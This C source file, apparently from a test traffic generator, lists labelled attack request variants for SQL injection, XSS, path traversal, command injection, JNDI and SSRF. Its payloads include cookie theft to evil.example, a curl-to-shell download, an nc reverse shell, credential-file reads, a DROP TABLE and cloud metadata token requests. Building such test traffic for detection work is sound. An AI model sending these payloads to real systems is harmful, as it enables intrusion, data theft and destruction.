/* SPDX-License-Identifier: BSD-3-Clause
 *
 * Malicious request variants, one table per attack class.  Nothing in the
 * generated traffic marks them: they look like any other request of the
 * session, and only the --labels / --describe outputs say which they were.
 */
#include "http_util.h"

struct variant {
	enum tg_method method;
	const char *target;
	const char *body;
	const char *hdr_name;
	const char *hdr_value;
};

#define N_OF(a) (sizeof(a) / sizeof((a)[0]))

static const struct variant sqli[] = {
	{TG_M_GET, "/api/v1/orders?customer=1%27%20OR%20%271%27%3D%271&limit=10", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/products/search?q=%27%20UNION%20SELECT%20username,password_hash%20FROM%20users--%20", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/orders/{n}'%20OR%201=1--", NULL, NULL, NULL},
	{TG_M_GET, "/api/v2/inventory?sku=SKU-{n}'+AND+SLEEP(5)--+&limit=10", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/users?id=1;DROP%20TABLE%20users--", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/products/{n}?sort=(CASE%20WHEN%20(SELECT%201)=1%20THEN%20price%20ELSE%20name%20END)", NULL, NULL, NULL},
	{TG_M_POST, "/api/v1/auth/login",
	 "\"username\":\"admin' OR '1'='1' -- \",\"password\":\"x\"", NULL, NULL},
	{TG_M_POST, "/api/v1/orders",
	 "\"customer_id\":\"usr_{u}\",\"items\":[{\"sku\":\"SKU-1' UNION SELECT null,version(),null-- \",\"qty\":1}]", NULL, NULL},
	{TG_M_PATCH, "/api/v1/orders/{n}",
	 "\"status\":\"shipped'; UPDATE orders SET total=0 WHERE '1'='1\"", NULL, NULL},
};

static const struct variant xss[] = {
	{TG_M_GET, "/api/v1/products/search?q=<script>alert(document.cookie)</script>", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/products/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/products/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/redirect?next=javascript:alert(String.fromCharCode(88,83,83))", NULL, NULL, NULL},
	{TG_M_POST, "/api/v1/products/{n}/reviews",
	 "\"rating\":5,\"comment\":\"<svg/onload=fetch('//evil.example/c?'+document.cookie)>\"", NULL, NULL},
	{TG_M_PUT, "/api/v1/users/{u}/profile",
	 "\"display_name\":\"<script>document.location='http://evil.example/?c='+document.cookie</script>\",\"locale\":\"en-US\"", NULL, NULL},
	{TG_M_GET, "/api/v1/orders/{n}", NULL, "Referer", "https://shop.example.com/\"><script>alert(1)</script>"},
};

static const struct variant traversal[] = {
	{TG_M_GET, "/api/v1/files/../../etc/passwd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/files/..%2f..%2f..%2fetc%2fpasswd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/files/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/files/..%252f..%252f..%252fetc%252fpasswd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/files/..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/download?file=....//....//....//etc/shadow", NULL, NULL, NULL},
	{TG_M_GET, "/static/..\\..\\..\\windows\\win.ini", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/reports?template=../../../../proc/self/environ", NULL, NULL, NULL},
	{TG_M_POST, "/api/v1/exports",
	 "\"format\":\"csv\",\"path\":\"../../../../var/lib/app/.env\"", NULL, NULL},
};

static const struct variant cmdi[] = {
	{TG_M_GET, "/api/v1/tools/ping?host=127.0.0.1;cat%20/etc/passwd", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/tools/ping?host=127.0.0.1%7Cid", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/tools/dns?name=example.com%60whoami%60", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/tools/ping?host=$(curl%20-s%20http://evil.example/x.sh|sh)", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/tools/traceroute?host=10.0.0.1%0Auname%20-a", NULL, NULL, NULL},
	{TG_M_POST, "/api/v1/tools/convert",
	 "\"file\":\"report.pdf; rm -rf /tmp/* #\",\"format\":\"png\"", NULL, NULL},
	{TG_M_POST, "/api/v1/exports",
	 "\"filename\":\"orders.csv && nc -e /bin/sh 203.0.113.7 4444\",\"format\":\"csv\"", NULL, NULL},
};

static const struct variant jndi[] = {
	{TG_M_GET, "/api/v1/orders/{n}", NULL, "User-Agent", "${jndi:ldap://203.0.113.66:1389/Exploit}"},
	{TG_M_GET, "/api/v1/products/{n}", NULL, "X-Api-Version", "${jndi:ldap://evil.example/a}"},
	{TG_M_GET, "/api/v2/inventory?sku=SKU-{n}&limit=5", NULL, "X-Forwarded-For", "${jndi:dns://evil.example/x}"},
	{TG_M_GET, "/api/v1/products/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/users/{u}/profile", NULL, "User-Agent", "${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/b}"},
	{TG_M_GET, "/api/v1/orders?customer=usr_{u}", NULL, "Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/c}"},
	{TG_M_POST, "/api/v1/auth/login",
	 "\"username\":\"${jndi:ldap://evil.example/u}\",\"password\":\"hunter2\"", NULL, NULL},
};

static const struct variant ssrf[] = {
	{TG_M_GET, "/api/v1/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/image-proxy?src=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/fetch?url=http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", NULL, NULL, NULL},
	{TG_M_GET, "/api/v1/fetch?url=http://2852039166/latest/meta-data/", NULL, NULL, NULL},
	{TG_M_POST, "/api/v1/webhooks",
	 "\"url\":\"http://169.254.169.254/latest/meta-data/\",\"events\":[\"order.created\"]", NULL, NULL},
	{TG_M_POST, "/api/v1/imports",
	 "\"source\":\"http://[::ffff:169.254.169.254]/latest/meta-data/\",\"format\":\"json\"", NULL, NULL},
};

static const struct {
	const struct variant *v;
	unsigned n;
} classes[TG_ATTACK_COUNT] = {
	[TG_ATTACK_SQLI] = {sqli, N_OF(sqli)},
	[TG_ATTACK_XSS] = {xss, N_OF(xss)},
	[TG_ATTACK_TRAVERSAL] = {traversal, N_OF(traversal)},
	[TG_ATTACK_CMDI] = {cmdi, N_OF(cmdi)},
	[TG_ATTACK_JNDI] = {jndi, N_OF(jndi)},
	[TG_ATTACK_SSRF] = {ssrf, N_OF(ssrf)},
};

void tg_attack_pick(struct tg_attack_req *a, struct tg_rng *r)
{
	enum tg_attack cls = (enum tg_attack)tg_range(r, TG_ATTACK_NONE + 1, TG_ATTACK_COUNT - 1);
	const struct variant *v = &classes[cls].v[tg_below(r, classes[cls].n)];

	*a = (struct tg_attack_req){
		.cls = cls,
		.method = v->method,
		.target = v->target,
		.body = v->body,
		.hdr_name = v->hdr_name,
		.hdr_value = v->hdr_value,
	};
}
